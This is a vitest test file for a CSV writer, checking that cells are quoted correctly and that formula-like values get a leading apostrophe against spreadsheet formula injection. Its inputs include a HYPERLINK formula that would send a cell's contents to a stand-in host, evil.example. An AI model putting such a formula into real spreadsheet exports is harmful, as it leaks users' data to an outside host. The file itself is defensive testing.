import { describe, expect, test } from "vitest";
import { cell, row } from "@/lib/csv.ts";

describe("a cell", () => {
  test.each([
    ["plain words", "plain words"],
    ["", ""],
    ["a, b", '"a, b"'],
    ['say "no"', '"say ""no"""'],
    ["two\nlines", '"two\nlines"'],
    ["two\r\nlines", '"two\r\nlines"'],
    ["a;b", '"a;b"'],
    [" blanks around ", '" blanks around "'],
    ["ends in a blank ", '"ends in a blank "'],
    ["Łódź, 東京, 🚀", '"Łódź, 東京, 🚀"'],
    ["a = b, a - b", '"a = b, a - b"'],
    ["2026-03-05 14:03", "2026-03-05 14:03"],
  ])("of the text %j is %j", (text, written) => {
    expect(cell(text)).toBe(written);
  });

  test.each([
    ["=1+1", "'=1+1"],
    ["+31 6 1234", "'+31 6 1234"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1+1", '"\'\t=1+1"'],
    ["\tx", '"\'\tx"'],
    ["\rx", '"\'\rx"'],
    ["\nx", '"\'\nx"'],
    ["  =1+1", "'  =1+1"],
    ["\uFEFF=1+1", "'\uFEFF=1+1"],
    ["\u200B\u00A0=1+1", "'\u200B\u00A0=1+1"],
    ["\u0001=1+1", "'\u0001=1+1"],
    ["＝1+1", "'＝1+1"],
    ["＠x", "'＠x"],
    ['=HYPERLINK("https://evil.example?"&A1,"x")', '"\'=HYPERLINK(""https://evil.example?""&A1,""x"")"'],
  ])("that a spreadsheet would run, %j, is %j", (text, written) => {
    expect(cell(text)).toBe(written);
  });

  test("of a number, a truth or nothing stays what it is", () => {
    expect([-3, 0, 2.5, true, false, null].map(cell)).toEqual(["-3", "0", "2.5", "true", "false", ""]);
  });
});

test("a line ends as RFC 4180 says, and has a comma between any two cells", () => {
  expect(row(["a", null, 1, ""])).toBe("a,,1,\r\n");
});
